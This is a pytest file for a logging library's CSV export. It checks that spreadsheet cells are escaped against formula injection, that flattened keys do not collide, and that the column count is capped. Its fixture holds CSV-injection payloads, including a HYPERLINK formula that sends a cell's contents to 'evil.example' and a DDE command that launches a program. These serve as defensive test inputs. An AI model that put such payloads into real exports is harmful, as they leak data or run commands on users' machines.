"""`export --format csv`: cells safe in a spreadsheet, every value kept, columns bounded."""

from __future__ import annotations

import csv
import json
import random
from pathlib import Path
from typing import Any

import pytest

import llmops_logging as ll
from llmops_logging.cli import main

from ..conftest import read_records

HOSTILE = {
    "link": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "dde": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(A1:A2)",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "fullwidth": "\uff1d1+1",
}


def write(log_dir: Path, *events: dict[str, Any]) -> list[dict[str, Any]]:
    ll.configure(log_dir, capture_stdlib=False)
    log = ll.get_logger("agent")
    for fields in events:
        log.info("event", **fields)
    ll.reset()
    return read_records(log_dir)


def export_csv(
    log_dir: Path, out: Path, capsys: pytest.CaptureFixture[str], *args: str
) -> tuple[list[str], list[dict[str, str]], str]:
    """(header, rows as dicts, what the command printed)."""
    capsys.readouterr()
    assert main(["export", "--out", str(out), *args, str(log_dir)]) == 0
    printed = capsys.readouterr().out
    with out.open(newline="", encoding="utf-8") as stream:
        reader = csv.reader(stream)
        header = next(reader)
        rows = [dict(zip(header, row, strict=True)) for row in reader]
    return header, rows, printed


def test_text_a_spreadsheet_would_run_is_written_with_a_quote_in_front(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    write(tmp_path / "logs", {**HOSTILE, "n": -3, "x": -0.5, "text_number": "-3", "ok": "fine"})
    _, rows, _ = export_csv(tmp_path / "logs", tmp_path / "out.csv", capsys)
    row = rows[0]
    for name, value in HOSTILE.items():
        assert row[name] == "'" + value, name
    assert row["n"] == "-3" and row["x"] == "-0.5"  # numbers stay numbers
    assert row["text_number"] == "'-3"  # text stays text
    assert row["ok"] == "fine"


def test_header_cells_from_field_names_are_neutralised_too(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    write(tmp_path / "logs", {"=1+1": "a", "@x": {"y": 1}})
    header, _, _ = export_csv(tmp_path / "logs", tmp_path / "out.csv", capsys)
    assert "'=1+1" in header and "'@x.y" in header
    assert not any(name.startswith(("=", "@")) for name in header)


def test_raw_cells_gives_the_values_as_logged(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    write(tmp_path / "logs", {**HOSTILE, "=k": 1})
    header, rows, _ = export_csv(tmp_path / "logs", tmp_path / "out.csv", capsys, "--raw-cells")
    assert "=k" in header
    for name, value in HOSTILE.items():
        expected = value.replace("\r", "\n")  # csv's reader, universal newlines
        assert rows[0][name] in (value, expected), name


def test_keys_that_flatten_to_one_name_both_survive(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    write(
        tmp_path / "logs",
        {"http.status": 200, "http": {"status": 503}},
        {
            "a.b": {"c": 1},
            "a": {"b.c": 2, "b": {"c": 3}},
            "back\\slash.x": 4,
            "back\\slash": {"x": 5},
        },
        {"http.status": 201},  # no collision in this record: the plain name
    )
    _, rows, _ = export_csv(tmp_path / "logs", tmp_path / "out.csv", capsys)
    assert rows[0]["http.status"] == "503" and rows[0]["http\\.status"] == "200"
    assert rows[1]["a.b.c"] == "3"
    assert rows[1]["a\\.b.c"] == "1" and rows[1]["a.b\\.c"] == "2"
    assert rows[1]["back\\slash.x"] == "5" and rows[1]["back\\\\slash\\.x"] == "4"
    assert rows[2]["http.status"] == "201" and rows[2]["http\\.status"] == ""


def test_a_dict_keyed_by_ids_is_one_column_of_json_and_the_output_stays_small(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rng = random.Random(3)
    events = [
        {"query": f"q{i}", "scores": {f"doc-{rng.randrange(10**9)}": i / 10 for _ in range(2)}}
        for i in range(1_500)
    ]
    records = write(tmp_path / "logs", *events)
    out = tmp_path / "out.csv"
    header, rows, printed = export_csv(tmp_path / "logs", out, capsys)
    assert len(header) < 20
    assert [json.loads(row["scores"]) for row in rows] == [r["scores"] for r in records]
    log_bytes = sum(p.stat().st_size for p in (tmp_path / "logs").iterdir())
    assert out.stat().st_size < log_bytes
    assert "kept whole as JSON text, keyed by data (more than 200 distinct keys): scores" in printed


def test_columns_are_capped_and_the_rest_kept_as_json(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    events = [{f"field_{i}_{j}": i * 10 + j for j in range(10)} for i in range(300)]
    records = write(tmp_path / "logs", *events)
    header, rows, printed = export_csv(tmp_path / "logs", tmp_path / "out.csv", capsys)
    assert len(header) == 1_000 and header[-1] == "_other_fields"
    assert "one JSON object per row in _other_fields" in printed
    for record, row in zip(records, rows, strict=True):
        rest = json.loads(row["_other_fields"]) if row["_other_fields"] else {}
        for name, value in record.items():
            if name.startswith("field_"):
                assert row.get(name, "") == str(value) or rest[name] == value
